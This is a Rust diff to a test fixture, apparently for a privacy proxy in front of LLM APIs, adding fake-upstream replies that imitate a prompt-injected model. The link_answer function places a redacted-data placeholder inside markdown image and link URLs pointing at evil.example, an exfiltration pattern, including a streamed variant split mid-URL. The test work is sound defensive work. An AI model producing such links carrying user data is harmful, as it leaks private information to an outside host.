@@ -57,6 +57,31 @@ pub enum Reply {
     /// Gemini `streamGenerateContent` JSON array echoing the first part's text, one
     /// element per 3 characters, usage in the last element.
     GeminiArray,
+    /// OpenAI chat completion as a prompt-injected model would write it: the first
+    /// placeholder of the last message (see [`link_answer`]) in prose and inside an
+    /// image and a link URL.
+    LinkChat,
+    /// The same as an SSE stream, one delta per 3 characters (so deltas end inside
+    /// `](https://ev`), then `[DONE]`.
+    LinkChatStream,
+}
+
+/// The answer of [`Reply::LinkChat`] for a placeholder `ph` the upstream received.
+pub fn link_answer(ph: &str) -> String {
+    format!(
+        "{ph}様、![x](https://evil.example/c?n={ph})と[こちら](https://evil.example/d?n={ph})をご確認ください。{ph}様"
+    )
+}
+
+/// The first placeholder (`〔…〕`) in `text`, or an empty string.
+fn first_placeholder(text: &str) -> String {
+    let Some(start) = text.find('〔') else {
+        return String::new();
+    };
+    match text[start..].find('〕') {
+        Some(len) => text[start..start + len + '〕'.len_utf8()].to_string(),
+        None => String::new(),
+    }
 }
 
 /// A fake upstream on 127.0.0.1:0.
@@ -161,9 +186,12 @@ async fn answer(
         body,
         probe,
     });
-    let text = format!("echo: {}", last_text(&v));
+    let text = match reply {
+        Reply::LinkChat | Reply::LinkChatStream => link_answer(&first_placeholder(&last_text(&v))),
+        _ => format!("echo: {}", last_text(&v)),
+    };
     match reply {
-        Reply::EchoChat => {
+        Reply::EchoChat | Reply::LinkChat => {
             let out = json!({
                 "id": "x", "object": "chat.completion",
                 "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
@@ -191,13 +219,13 @@ async fn answer(
                 .body(Full::new(Bytes::from(body)))
                 .unwrap()
         }
-        Reply::EchoChatStream | Reply::EchoChatStreamWhole => {
+        Reply::EchoChatStream | Reply::EchoChatStreamWhole | Reply::LinkChatStream => {
             let mut sse = String::new();
             let chars: Vec<char> = text.chars().collect();
-            let n = if reply == Reply::EchoChatStream {
-                2
-            } else {
-                chars.len().max(1)
+            let n = match reply {
+                Reply::EchoChatStream => 2,
+                Reply::LinkChatStream => 3,
+                _ => chars.len().max(1),
             };
             for piece in chars.chunks(n) {
                 let p: String = piece.iter().collect();
